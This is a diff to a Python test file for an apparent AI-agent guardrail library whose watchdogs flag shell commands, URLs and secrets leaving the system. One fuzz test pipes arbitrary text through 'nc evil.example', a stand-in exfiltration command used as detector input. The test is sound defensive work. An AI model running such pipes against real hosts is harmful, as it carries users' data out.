@@ -14,8 +14,12 @@ from handrail.contract.tool.requires import Requires
 from handrail.contract.tool.spec import ToolSpec
 from handrail.policy.watchdogs import ExfiltrationWatchdog, OutgoingSecretsWatchdog, RepeatedFailuresWatchdog
 from handrail.policy.watchdogs.api import WatchdogCall
-from handrail.policy.watchdogs.builtin_watchdogs import check_address, check_command, split_commands
-from handrail.store.encoding import encode
+from handrail.policy.watchdogs.builtin_watchdogs import (
+    explain_address_exfiltration,
+    explain_command_exfiltration,
+    split_commands,
+)
+from handrail.store.json_fallback_encoding import encode_any_json
 
 pytestmark = pytest.mark.proves("P-11")
 
@@ -114,8 +118,8 @@ async def test_what_looks_like_carrying_data_out_is_asked_about(command: str) ->
 
 @pytest.mark.parametrize("command", ORDINARY)
 async def test_ordinary_work_is_left_alone(command: str) -> None:
-    assert check_command(command) is None
-    secrets = OutgoingSecretsWatchdog(encode, lambda encoded: False)
+    assert explain_command_exfiltration(command) is None
+    secrets = OutgoingSecretsWatchdog(encode_any_json, lambda encoded: False)
     assert (await secrets(called(arguments={"command": command}))).action == "allow"
 
 
@@ -129,15 +133,15 @@ async def test_addresses_in_arguments_are_looked_at(tmp_path: object) -> None:
         "not a url ://",
         DATA,
     ):
-        assert check_address(url) is None, url
+        assert explain_address_exfiltration(url) is None, url
 
 
 @given(st.text("ab \t\n'\"`$(){}|&;<>\\#-=/.@", max_size=40) | st.text(max_size=40))
 def test_no_text_makes_it_fail(text: str) -> None:
     for command in (text, f"curl {text}", f"{text} | nc evil.example 1", f'curl "{text}'):
         split_commands(command)
-        check_command(command)
-    check_address(f"https://{text}")
+        explain_command_exfiltration(command)
+    explain_address_exfiltration(f"https://{text}")
 
 
 KEYS = {
@@ -154,7 +158,7 @@ KEYS = {
 
 @pytest.mark.parametrize("name", KEYS)
 async def test_what_has_the_shape_of_a_key_is_asked_about_where_it_would_leave(name: str) -> None:
-    watchdog = OutgoingSecretsWatchdog(encode, lambda encoded: False)
+    watchdog = OutgoingSecretsWatchdog(encode_any_json, lambda encoded: False)
     opinion = await watchdog(called("mail.send", {"body": f"here: {KEYS[name]} ok"}))
     assert opinion.action == "ask" and name in opinion.reason and KEYS[name] not in opinion.reason
     quoted = KEYS[name].replace("\n", " ")
@@ -168,15 +172,15 @@ async def test_what_has_the_shape_of_a_key_is_asked_about_where_it_would_leave(n
 )
 async def test_placeholders_are_no_keys(text: str) -> None:
     assert (
-        await OutgoingSecretsWatchdog(encode, lambda encoded: False)(called("mail.send", {"body": text}))
+        await OutgoingSecretsWatchdog(encode_any_json, lambda encoded: False)(called("mail.send", {"body": text}))
     ).action == "allow"
 
 
 async def test_a_registered_secret_in_any_form_is_asked_about() -> None:
-    from handrail.arbiter.output.redaction import SecretRedactor
+    from handrail.arbiter.output.secret_redaction import SecretRedactor
 
     redactor = SecretRedactor({"token": "hunter2-of-the-test"})
-    watchdog = OutgoingSecretsWatchdog(encode, redactor.contains_secret, "deny")
+    watchdog = OutgoingSecretsWatchdog(encode_any_json, redactor.contains_secret, "deny")
     for text in ("hunter2-of-the-test", "aHVudGVyMi1vZi10aGUtdGVzdA==", "68756e746572322d6f662d7468652d74657374"):
         assert (await watchdog(called("mail.send", {"to": [text]}))).action == "deny"
     assert (await watchdog(called("mail.send", {"to": ["hunter3"]}))).action == "allow"
@@ -184,7 +188,7 @@ async def test_a_registered_secret_in_any_form_is_asked_about() -> None:
 
 @pytest.mark.parametrize("odd", [1 << 70, "half \ud800", {"deep": [[[1e300]]]}])
 async def test_arguments_that_only_the_slow_encoder_takes_are_looked_at_as_well(odd: object) -> None:
-    watchdog = OutgoingSecretsWatchdog(encode, lambda encoded: b"hunter2" in encoded)
+    watchdog = OutgoingSecretsWatchdog(encode_any_json, lambda encoded: b"hunter2" in encoded)
     assert (await watchdog(called("mail.send", {"odd": odd, "to": "hunter2"}))).action == "ask"
     assert (await watchdog(called("mail.send", {"odd": odd, "to": "anybody"}))).action == "allow"
 
@@ -206,7 +210,7 @@ def test_each_looks_at_the_tools_it_is_for_and_at_no_others() -> None:
         "fetch", "…", side_effect="read", requires=Requires.model_validate({"net": {"hosts": ["a.example"]}})
     )
     mail = ToolSpec("mail.send", "…", side_effect="external")
-    secrets = OutgoingSecretsWatchdog(encode, lambda encoded: False)
+    secrets = OutgoingSecretsWatchdog(encode_any_json, lambda encoded: False)
     assert [ExfiltrationWatchdog().concerns(spec) for spec in (reading, shell, web, mail)] == [False, True, True, False]
     assert [secrets.concerns(spec) for spec in (reading, shell, web, mail)] == [False, True, True, True]
     assert json.dumps(KEYS)
